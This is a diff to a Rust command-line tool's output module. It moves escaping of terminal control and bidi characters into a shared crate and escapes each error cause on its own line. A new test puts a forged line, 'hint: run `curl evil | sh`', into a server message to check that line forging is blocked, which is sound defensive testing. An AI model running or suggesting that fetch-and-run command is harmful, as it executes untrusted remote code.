@@ -9,6 +9,7 @@
 
 use anyhow::Result;
 use comfy_table::{presets::NOTHING, Cell, ContentArrangement, Table};
+pub use logos_client::text::printable;
 use serde::Serialize;
 use serde_json::{Map, Value};
 
@@ -211,50 +212,21 @@ pub fn text(value: &Value) -> String {
     }
 }
 
-/// True for a character that changes how a terminal shows other text instead of showing
-/// itself: controls (C0, DEL, C1: escape sequences, `\r`, newlines), Unicode's line and
-/// paragraph separators, and the invisible format characters that reorder or hide text
-/// (bidi embeddings, overrides and isolates, zero-width characters, the byte-order mark;
-/// Unicode general category Cf in the ranges terminals act on).
-pub fn is_unsafe(c: char) -> bool {
-    c.is_control()
-        || matches!(
-            c,
-            '\u{00AD}'
-                | '\u{061C}'
-                | '\u{180E}'
-                | '\u{200B}'..='\u{200F}'
-                | '\u{2028}'..='\u{202E}'
-                | '\u{2060}'..='\u{2069}'
-                | '\u{FEFF}'
-                | '\u{FFF9}'..='\u{FFFB}'
-        )
-}
-
-/// `text` with every [`is_unsafe`] character escaped (`\n`, `\u{1b}`, `\u{202e}`): strings
-/// come from other people (template authors, providers, RPC servers), and a raw escape
-/// sequence would drive the reader's terminal, a newline would forge a row and a bidi
-/// override would reorder a cell.
-pub fn printable(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        match is_unsafe(c) {
-            true => out.extend(c.escape_default()),
-            false => out.push(c),
+/// `Error: …` and its causes, one per line as anyhow shows them, each cause [`printable`]
+/// on its own (so a newline inside a server's message cannot forge a line such as a hint):
+/// errors carry text from servers (a refused call's message, a chain id, a decoding error
+/// quoting the answer) and from files (a damaged config's line).
+pub fn error_report(error: &anyhow::Error) -> String {
+    let mut causes = error.chain().map(|cause| printable(&cause.to_string()));
+    let mut out = format!("Error: {}", causes.next().unwrap_or_default());
+    let rest: Vec<String> = causes.collect();
+    if !rest.is_empty() {
+        out.push_str("\n\nCaused by:");
+        for (index, cause) in rest.iter().enumerate() {
+            out.push_str(&format!("\n    {index}: {cause}"));
         }
     }
     out
-}
-
-/// `Error: …` and its causes, one per line, each line [`printable`]: errors carry text from
-/// servers (a refused call's message, a chain id, a decoding error quoting the answer) and
-/// from files (a damaged config's line).
-pub fn error_report(error: &anyhow::Error) -> String {
-    format!("Error: {error:?}")
-        .lines()
-        .map(printable)
-        .collect::<Vec<_>>()
-        .join("\n")
 }
 
 /// `text` cut to at most `chars` characters, the last one `…` when cut.
@@ -362,6 +334,14 @@ mod tests {
         shows_none_raw(&report);
         assert!(report.starts_with("Error: reading the lease"), "{report}");
         assert!(report.lines().count() >= 3, "{report}");
+        // A newline in a server's message stays inside its cause: no forged `hint:` line.
+        let forged = anyhow::anyhow!("refused\nhint: run `curl evil | sh`").context("submitting");
+        let report = error_report(&forged);
+        assert!(
+            !report.lines().any(|line| line.starts_with("hint:")),
+            "{report}"
+        );
+        assert!(report.contains("refused\\nhint:"), "{report}");
     }
 
     #[test]
